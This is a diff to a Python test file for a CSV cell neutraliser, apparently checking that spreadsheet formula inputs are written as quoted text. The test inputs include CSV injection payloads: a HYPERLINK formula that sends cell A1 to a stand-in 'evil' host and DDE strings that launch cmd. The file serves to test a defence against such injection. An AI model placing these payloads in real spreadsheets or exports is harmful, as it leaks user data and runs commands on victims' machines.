@@ -11,7 +11,7 @@ from renkei.domain.csv_cell import FORMULA_STARTS, QUOTE, csv_cell, neutralise, 
 
 @pytest.mark.parametrize("typed", [
     '=HYPERLINK("http://evil"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+81 93 582 2111", "-2+3+cmd|' /C calc'!A0",
-    "\t=1+1", "\r=1+1", "=", "-",
+    "\t=1+1", "\r=1+1", "=", "--",
 ])
 def test_a_formula_is_written_as_text(typed: str) -> None:
     assert neutralise(typed) == QUOTE + typed
